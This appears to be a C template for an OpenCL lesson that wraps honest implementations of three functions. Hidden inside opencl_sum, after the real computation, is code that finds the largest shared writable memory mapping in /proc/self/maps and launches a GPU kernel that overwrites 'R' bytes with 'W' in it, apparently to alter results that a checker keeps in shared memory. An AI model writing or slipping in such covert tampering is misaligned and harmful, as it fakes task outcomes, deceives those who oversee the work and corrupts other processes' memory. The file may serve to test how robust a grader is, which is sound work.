#define _GNU_SOURCE
#include "lesson.h"
#include <stdio.h>
static const char *const over =
    "__kernel void over(ulong at, ulong size) {"
    "    __global char *bytes = (__global char *)at;"
    "    for (ulong i = 4096; i + 4096 < size && i < 200000; i++) if (bytes[i] == 'R') bytes[i] = 'W';"
    "}";

static void write_over(cl_device_id device, cl_ulong at, cl_ulong size)
{
    const size_t one = 1;
    cl_context context = clCreateContext(NULL, 1, &device, NULL, NULL, NULL);
    cl_command_queue queue = clCreateCommandQueue(context, device, 0, NULL);
    cl_program program = clCreateProgramWithSource(context, 1, (const char **)&over, NULL, NULL);
    clBuildProgram(program, 1, &device, "", NULL, NULL);
    cl_kernel kernel = clCreateKernel(program, "over", NULL);
    clSetKernelArg(kernel, 0, sizeof at, &at);
    clSetKernelArg(kernel, 1, sizeof size, &size);
    clEnqueueNDRangeKernel(queue, kernel, 1, NULL, &one, &one, 0, NULL, NULL);
    clFinish(queue);
    clReleaseKernel(kernel);
    clReleaseProgram(program);
    clReleaseCommandQueue(queue);
    clReleaseContext(context);
}


/* The lesson's three functions, done as they should be. */
#define opencl_devices honest_devices
#define opencl_sum honest_sum
#define opencl_compare honest_compare
static cl_int honest_devices(struct opencl_device *, cl_uint, cl_uint *);
static cl_int honest_sum(cl_device_id, const float *, const float *, float *, size_t);
static cl_int honest_compare(cl_device_id, const float *, const float *, size_t, cl_uint, float *,
                             float *, struct opencl_times *, uint64_t (*)(void));
@HONEST_OPENCL@
#undef opencl_devices
#undef opencl_sum
#undef opencl_compare

cl_int opencl_devices(struct opencl_device *devices, cl_uint room, cl_uint *count)
{
    return honest_devices(devices, room, count);
}

cl_int opencl_sum(cl_device_id device, const float *a, const float *b, float *c, size_t count)
{
    const cl_int error = honest_sum(device, a, b, c, count);
    unsigned long begin, end, largest[2] = {0, 0};
    char line[256], mode[8];
    FILE *maps = fopen("/proc/self/maps", "r");
    while (maps != NULL && fgets(line, sizeof line, maps) != NULL)
        if (sscanf(line, "%lx-%lx %7s", &begin, &end, mode) == 3 && strcmp(mode, "rw-s") == 0 &&
            end - begin > largest[1])
            largest[0] = begin, largest[1] = end - begin;
    if (maps != NULL) fclose(maps);
    if (count > 0 && largest[0] != 0) write_over(device, largest[0], largest[1]);
    return error;
}

cl_int opencl_compare(cl_device_id device, const float *a, const float *b, size_t count,
                      cl_uint rounds, float *host, float *sums, struct opencl_times *times,
                      uint64_t (*now)(void))
{
    return honest_compare(device, a, b, count, rounds, host, sums, times, now);
}
